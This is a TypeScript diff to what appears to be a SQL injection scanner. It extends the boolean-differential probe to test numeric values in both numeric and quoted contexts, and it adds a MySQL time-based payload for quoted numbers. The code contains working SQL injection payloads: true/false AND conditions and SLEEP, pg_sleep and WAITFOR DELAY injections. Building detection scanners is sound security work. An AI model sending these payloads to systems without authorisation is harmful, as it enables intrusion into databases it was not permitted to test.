@@ -50,44 +50,44 @@ function errorBased(context: GenerationContext): Probe {
   };
 }
 
+interface BooleanPair {
+  readonly context: 'numeric' | 'string';
+  readonly truePayload: string;
+  readonly falsePayload: string;
+}
+
 function booleanDifferential(context: GenerationContext): Probe {
   const point = requirePoint(context);
   const o = cleanValue(point.original);
-  const numeric = /^-?\d+$/.test(o);
-  let truePayload: string;
-  let falsePayload: string;
-  if (numeric) {
+  // LIKE rather than = so that the same payload stays true inside a LIKE '%...%' pattern.
+  const word = context.canary().slice(3, 7);
+  const other = `${word.slice(0, -1)}${word.endsWith('a') ? 'b' : 'a'}`;
+  const pairs: BooleanPair[] = [{ context: 'string', truePayload: `${o}' AND '${word}'LIKE'${word}`, falsePayload: `${o}' AND '${word}'LIKE'${other}` }];
+  // A number may still sit inside quotes in the query (WHERE id = '1'), so numbers get both contexts.
+  if (/^-?\d+$/.test(o)) {
     const n = context.integer(10, 98);
-    truePayload = `${o} AND ${n}=${n}`;
-    falsePayload = `${o} AND ${n}=${n + 1}`;
-  } else {
-    // LIKE rather than = so that the same payload stays true inside a LIKE '%...%' pattern.
-    const word = context.canary().slice(3, 7);
-    const other = `${word.slice(0, -1)}${word.endsWith('a') ? 'b' : 'a'}`;
-    truePayload = `${o}' AND '${word}'LIKE'${word}`;
-    falsePayload = `${o}' AND '${word}'LIKE'${other}`;
+    pairs.unshift({ context: 'numeric', truePayload: `${o} AND ${n}=${n}`, falsePayload: `${o} AND ${n}=${n + 1}` });
   }
-  // A reflected payload may come back HTML-encoded (up to 6 bytes per character).
-  const reflection = NOISE + 6 * (truePayload.length - o.length);
+  const requests = [templateRequest('baseline', 'observed value', point.withValue(o)), templateRequest('control', 'observed value again (page stability)', point.withValue(o))];
+  const conditions: string[] = [];
+  for (const pair of pairs) {
+    const t = requests.length + 1;
+    requests.push(
+      templateRequest('payload', `${pair.context} context, true condition`, point.withValue(pair.truePayload)),
+      templateRequest('payload', `${pair.context} context, false condition`, point.withValue(pair.falsePayload)),
+      templateRequest('control', `${pair.context} context, true condition again (payload stability)`, point.withValue(pair.truePayload)),
+    );
+    // A reflected payload may come back HTML-encoded (up to 6 bytes per character).
+    const reflection = NOISE + 6 * (pair.truePayload.length - o.length);
+    conditions.push(`(${similar(t, t + 2, NOISE)} && ${similar(1, t, reflection)} && ${different(t, t + 1, DIFFERENT)})`);
+  }
   return {
     id: 'boolean-differential',
     technique: 'sql_boolean',
     confidence: 0.85,
     confirms: `appending a true SQL condition to ${point.describe} keeps the page, a false one changes it, and repeated requests are stable`,
-    requests: [
-      templateRequest('baseline', 'observed value', point.withValue(o)),
-      templateRequest('control', 'observed value again (page stability)', point.withValue(o)),
-      templateRequest('payload', `${numeric ? 'numeric' : 'string'} context, true condition`, point.withValue(truePayload)),
-      templateRequest('payload', `${numeric ? 'numeric' : 'string'} context, false condition`, point.withValue(falsePayload)),
-      templateRequest('control', 'true condition again (payload stability)', point.withValue(truePayload)),
-    ],
-    matchers: [
-      {
-        type: 'dsl',
-        name: 'boolean-differential',
-        dsl: [`${similar(1, 2, NOISE)} && ${similar(3, 5, NOISE)} && ${similar(1, 3, reflection)} && ${different(3, 4, DIFFERENT)}`],
-      },
-    ],
+    requests,
+    matchers: [{ type: 'dsl', name: 'boolean-differential', dsl: [`${similar(1, 2, NOISE)} && (${conditions.join(' || ')})`] }],
     matchers_condition: 'and',
     extractors: [],
   };
@@ -101,6 +101,7 @@ function timeBased(context: GenerationContext): Probe {
   const engines: [string, (seconds: number) => string][] = numeric
     ? [
         ['MySQL', (n) => `${o}-(SELECT(0)FROM(SELECT(SLEEP(${n})))x)`],
+        ['MySQL (quoted number)', (n) => `${o}'XOR(SELECT(0)FROM(SELECT(SLEEP(${n})))x)XOR'Z`],
         ['PostgreSQL', (n) => `${o}-(SELECT 0 FROM pg_sleep(${n}))`],
         ['SQL Server', (n) => `${o};WAITFOR DELAY '0:0:${n}'--`],
       ]
